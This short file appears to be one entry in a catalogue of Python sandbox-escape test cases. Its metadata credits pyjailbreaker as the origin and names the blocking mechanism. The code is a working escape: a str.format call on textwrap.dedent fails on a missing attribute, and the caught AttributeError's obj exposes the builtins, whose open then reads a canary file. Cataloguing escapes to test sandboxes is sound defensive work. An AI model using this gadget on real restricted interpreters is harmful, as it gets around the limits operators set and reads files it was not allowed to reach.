# id: attributeerror-obj-through-format
# family: exceptions
# kind: escape
# invariant: D, E
# origin: pyjailbreaker's getattr gadget with a caught AttributeError
# technique: a format field that ends in a missing attribute fails, and the error holds the object itself instead of its text
# needs: 3.10+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import textwrap

try:
    "{0.__globals__[__builtins__].nothing}".format(textwrap.dedent)
except AttributeError as error:
    print(error.obj["open"]("canary.txt").read())
